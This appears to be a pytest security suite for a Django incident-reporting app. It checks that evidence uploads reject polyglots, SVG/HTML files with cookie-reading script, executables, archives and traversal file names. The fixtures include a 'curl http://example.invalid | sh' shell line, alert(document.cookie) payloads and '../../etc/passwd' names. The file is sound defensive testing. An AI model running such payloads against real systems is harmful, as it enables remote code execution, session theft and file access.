"""Malicious uploads are refused through the real doors: the officeholder's page and the API.

Each case is a file that must never become evidence, whatever its name: a polyglot (a photo
or PDF that is also markup or an archive), SVG, HTML, an executable or script, an archive.
The officeholder gets the form back with a message naming the file and the reason; the API
answers 400 with the same reason. Nothing is stored. Accepted files keep a safe name and are
only ever served as a download that the browser may not sniff.
"""

import gzip
import io
import zipfile

import pytest
from django.urls import reverse
from PIL import Image
from pypdf import PdfWriter

from incidents.models import Evidence
from tests.security.conftest import log_in

pytestmark = pytest.mark.django_db

# The reasons `evidence_inspect` gives (Dutch, the default language); one must be shown.
REASONS = (
    "Dit soort bestand kunnen wij niet aannemen",
    "Dit bestand is geen leesbare foto of PDF",
    "Dit bestandstype wordt niet ondersteund",
)


def _png() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (40, 30), (10, 120, 200)).save(out, format="PNG")
    return out.getvalue()


def _pdf() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("payload.html", "<b>hallo</b>")
    return out.getvalue()


SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.cookie)"/>'
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
PE = b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 56 + b"This program cannot be run in DOS mode."
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56

MALICIOUS = {
    # Polyglots: valid as a photo or PDF, and at the same time something else.
    "png+zip": ("foto.png", _png() + _zip()),
    "png+html": ("foto.png", _png() + HTML),
    "pdf+html": ("aangifte.pdf", _pdf() + HTML),
    "pdf+zip": ("aangifte.pdf", _pdf() + _zip()),
    "ascii-pdf+html-after-2kb": ("aangifte.pdf", _pdf() + b"%" * 2048 + HTML),
    # SVG and HTML, under their own names and under innocent ones.
    "svg": ("logo.svg", SVG),
    "svg-as-png": ("foto.png", SVG),
    "svg-as-txt": ("notitie.txt", SVG),
    "html": ("pagina.html", HTML),
    "html-as-txt": ("brief.txt", HTML),
    "html-as-jpg": ("foto.jpg", HTML),
    # Executables and scripts.
    "exe": ("programma.exe", PE),
    "exe-as-jpg": ("foto.jpg", PE),
    "elf-as-txt": ("notitie.txt", ELF),
    "shell-script-as-txt": ("notitie.txt", b"#!/bin/sh\ncurl http://example.invalid | sh\n"),
    # Archives.
    "zip": ("bewijs.zip", _zip()),
    "zip-as-pdf": ("scan.pdf", _zip()),
    "zip-as-txt": ("notitie.txt", _zip()),
    "gzip-as-txt": ("notitie.txt", gzip.compress(b"verslag")),
    "rar-as-txt": ("notitie.txt", b"Rar!\x1a\x07\x01\x00" + b"\x00" * 32),
    "7z-as-txt": ("notitie.txt", b"7z\xbc\xaf\x27\x1c\x00\x04" + b"\x00" * 32),
}


def _upload(name: str, data: bytes) -> io.BytesIO:
    upload = io.BytesIO(data)
    upload.name = name
    return upload


@pytest.mark.parametrize("case", MALICIOUS, ids=str)
def test_officeholder_page_refuses_with_a_clear_message(case, world, client):
    """The follow-up form comes back with the file's name and why; nothing is stored."""
    name, data = MALICIOUS[case]
    incident = world.incidents["submitted"]
    log_in(client, world.users["owner"])
    before = Evidence.objects.count()
    response = client.post(
        reverse("incidents:follow_up", args=[incident.reference]),
        {"text": "", "evidence": _upload(name, data)},
    )
    assert response.status_code == 200
    errors = " ".join(response.context["follow_up_form"].errors["evidence"])
    assert name in errors
    assert any(reason in errors for reason in REASONS), errors
    assert name in response.content.decode()
    assert Evidence.objects.count() == before


@pytest.mark.parametrize("case", MALICIOUS, ids=str)
def test_api_refuses_with_a_clear_message(case, world, api_client_for):
    """POST /api/v1/incidents/<ref>/evidence/ answers 400 naming the file and the reason."""
    name, data = MALICIOUS[case]
    incident = world.incidents["submitted"]
    before = Evidence.objects.count()
    response = api_client_for("owner").post(
        reverse("api:incident-evidence", args=[incident.reference]),
        {"file": _upload(name, data)},
        format="multipart",
    )
    assert response.status_code == 400, response.content[:300]
    detail = " ".join(response.json()["error"]["fields"]["file"])
    assert name in detail
    assert any(reason in detail for reason in REASONS), detail
    assert Evidence.objects.count() == before


def _assert_safe_download(response, expected_name: str) -> None:
    assert response.status_code == 200
    disposition = response["Content-Disposition"]
    assert disposition.startswith("attachment;"), disposition
    assert f'filename="{expected_name}"' in disposition
    assert response["X-Content-Type-Options"] == "nosniff"


def test_path_traversal_name_is_sanitised_on_the_page_and_served_as_attachment(
    world, client, private_storage_in_tmp
):
    """A name like "../../etc/passwd.txt" becomes "passwd.txt", inside the private root."""
    incident = world.incidents["submitted"]
    log_in(client, world.users["owner"])
    response = client.post(
        reverse("incidents:follow_up", args=[incident.reference]),
        {"text": "", "evidence": _upload("../../etc/passwd.txt", b"Getuigenverklaring.")},
    )
    assert response.status_code == 302
    evidence = incident.evidence.latest("pk")
    assert evidence.original_name == "passwd.txt"
    assert ".." not in evidence.file.name
    stored = (private_storage_in_tmp / evidence.file.name).resolve()
    assert stored.is_relative_to(private_storage_in_tmp.resolve())
    _assert_safe_download(client.get(evidence.get_absolute_url()), "passwd.txt")


def test_path_traversal_name_is_sanitised_in_the_api_and_served_as_attachment(
    world, api_client_for
):
    """The API stores the same safe name and serves the file as a nosniff attachment."""
    incident = world.incidents["submitted"]
    client = api_client_for("owner")
    response = client.post(
        reverse("api:incident-evidence", args=[incident.reference]),
        {"file": _upload("..\\..\\windows\\win.ini.txt", b"Getuigenverklaring.")},
        format="multipart",
    )
    assert response.status_code == 201, response.content[:300]
    evidence = incident.evidence.latest("pk")
    assert evidence.original_name == "win.ini.txt"
    url = reverse("api:incident-evidence-download", args=[incident.reference, evidence.pk])
    _assert_safe_download(client.get(url), "win.ini.txt")


def test_text_named_html_is_stored_and_served_as_plain_text(world, client):
    """A harmless text file called "pagina.html" is kept as .txt, text/plain, as a download."""
    incident = world.incidents["submitted"]
    log_in(client, world.users["owner"])
    client.post(
        reverse("incidents:follow_up", args=[incident.reference]),
        {"text": "", "evidence": _upload("pagina.html", b"Gewoon tekst, geen opmaak.")},
    )
    evidence = incident.evidence.latest("pk")
    assert evidence.original_name == "pagina.txt"
    response = client.get(evidence.get_absolute_url())
    _assert_safe_download(response, "pagina.txt")
    assert response["Content-Type"].startswith("text/plain")
